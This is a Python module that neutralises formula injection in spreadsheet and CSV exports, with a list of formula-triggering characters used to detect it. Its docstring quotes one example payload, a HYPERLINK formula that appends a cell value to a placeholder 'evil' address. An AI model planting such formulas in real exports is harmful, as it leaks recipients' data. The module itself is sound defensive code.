"""Spreadsheet and CSV exports that cannot carry a formula (CSV / formula injection).

A learner chooses their own name; written into a workbook as ``=HYPERLINK("http://evil…"&E2, …)``
it would run as a live formula beside ID and subsidy columns. Every export in the tree writes
its cells through this module:

- ``write_rows(ws, rows)`` appends rows to an openpyxl worksheet, storing any text that a
  spreadsheet would read as a formula as a plain string cell (shown exactly as typed);
- ``csv_bytes(rows)`` writes CSV (UTF-8 with a BOM, which Excel needs for Chinese), prefixing such
  text with an apostrophe, the form spreadsheet programs accept as "this is text".
"""
from __future__ import annotations

import csv
import io
from collections.abc import Iterable

#: First characters that make Excel, LibreOffice or Sheets evaluate a cell, in ASCII and full width
#: (some spreadsheet programs fold full-width forms when a cell is edited).
FORMULA_STARTS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20\ufe62\ufe63\u2212")
#: Characters a spreadsheet skips before looking for a formula.
LEADING_BLANKS = " \u00a0\u3000\u200b\ufeff"


def is_formula_like(value) -> bool:
    """True if ``value`` is text that a spreadsheet would run as a formula."""
    if not isinstance(value, str) or not value:
        return False
    stripped = value.lstrip(LEADING_BLANKS)
    return bool(stripped) and (stripped[0] in FORMULA_STARTS or value[0] in FORMULA_STARTS)


def safe_cell(value):
    """``value`` as a CSV cell: formula-like text gets a leading apostrophe, anything else is kept."""
    if is_formula_like(value):
        return "'" + value
    return value


def write_rows(ws, rows: Iterable[Iterable]) -> None:
    """Append ``rows`` to the openpyxl worksheet ``ws``; formula-like text becomes a string cell."""
    for row in rows:
        values = list(row)
        ws.append([None if is_formula_like(v) else v for v in values])
        r = ws.max_row
        for col, v in enumerate(values, start=1):
            if is_formula_like(v):
                cell = ws.cell(row=r, column=col)
                cell.value = v  # openpyxl marks text starting with "=" as a formula ...
                cell.data_type = "s"  # ... store it as a string instead
                cell.quotePrefix = True  # and tell Excel not to re-read it as a formula on edit


def csv_bytes(rows: Iterable[Iterable]) -> bytes:
    """``rows`` as CSV bytes (UTF-8 with BOM) with every cell passed through ``safe_cell``."""
    buf = io.StringIO()
    writer = csv.writer(buf)
    for row in rows:
        writer.writerow([safe_cell(v) for v in row])
    return ("\ufeff" + buf.getvalue()).encode("utf-8")
